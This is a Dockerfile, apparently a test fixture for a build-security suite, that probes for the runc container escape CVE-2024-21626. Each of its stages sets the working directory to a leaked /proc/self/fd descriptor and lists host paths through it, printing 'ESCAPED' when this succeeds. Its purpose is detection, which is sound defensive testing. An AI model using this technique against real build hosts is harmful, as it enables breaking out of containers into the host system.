# tries: a working directory that is a descriptor of the runtime (CVE-2024-21626)
# ends: .*
# Rootless: nothing
# UserNamespace: nothing
FROM registry.buildpools.test:5000/library/attacker:stable AS base
FROM base AS fd3
WORKDIR /proc/self/fd/3
RUN ls -d ../../../../home/user ../../../../usr/bin/buildkitd 2>/dev/null | sed "s/^/ESCAPED to /"; echo TRIED 3
FROM base AS fd4
WORKDIR /proc/self/fd/4
RUN ls -d ../../../../home/user ../../../../usr/bin/buildkitd 2>/dev/null | sed "s/^/ESCAPED to /"; echo TRIED 4
FROM base AS fd5
WORKDIR /proc/self/fd/5
RUN ls -d ../../../../home/user ../../../../usr/bin/buildkitd 2>/dev/null | sed "s/^/ESCAPED to /"; echo TRIED 5
FROM base AS fd6
WORKDIR /proc/self/fd/6
RUN ls -d ../../../../home/user ../../../../usr/bin/buildkitd 2>/dev/null | sed "s/^/ESCAPED to /"; echo TRIED 6
FROM base AS fd7
WORKDIR /proc/self/fd/7
RUN ls -d ../../../../home/user ../../../../usr/bin/buildkitd 2>/dev/null | sed "s/^/ESCAPED to /"; echo TRIED 7
FROM base AS fd8
WORKDIR /proc/self/fd/8
RUN ls -d ../../../../home/user ../../../../usr/bin/buildkitd 2>/dev/null | sed "s/^/ESCAPED to /"; echo TRIED 8
FROM base AS fd9
WORKDIR /proc/self/fd/9
RUN ls -d ../../../../home/user ../../../../usr/bin/buildkitd 2>/dev/null | sed "s/^/ESCAPED to /"; echo TRIED 9
FROM base AS fd10
WORKDIR /proc/self/fd/10
RUN ls -d ../../../../home/user ../../../../usr/bin/buildkitd 2>/dev/null | sed "s/^/ESCAPED to /"; echo TRIED 10
FROM base AS fd11
WORKDIR /proc/self/fd/11
RUN ls -d ../../../../home/user ../../../../usr/bin/buildkitd 2>/dev/null | sed "s/^/ESCAPED to /"; echo TRIED 11
FROM base AS fd12
WORKDIR /proc/self/fd/12
RUN ls -d ../../../../home/user ../../../../usr/bin/buildkitd 2>/dev/null | sed "s/^/ESCAPED to /"; echo TRIED 12
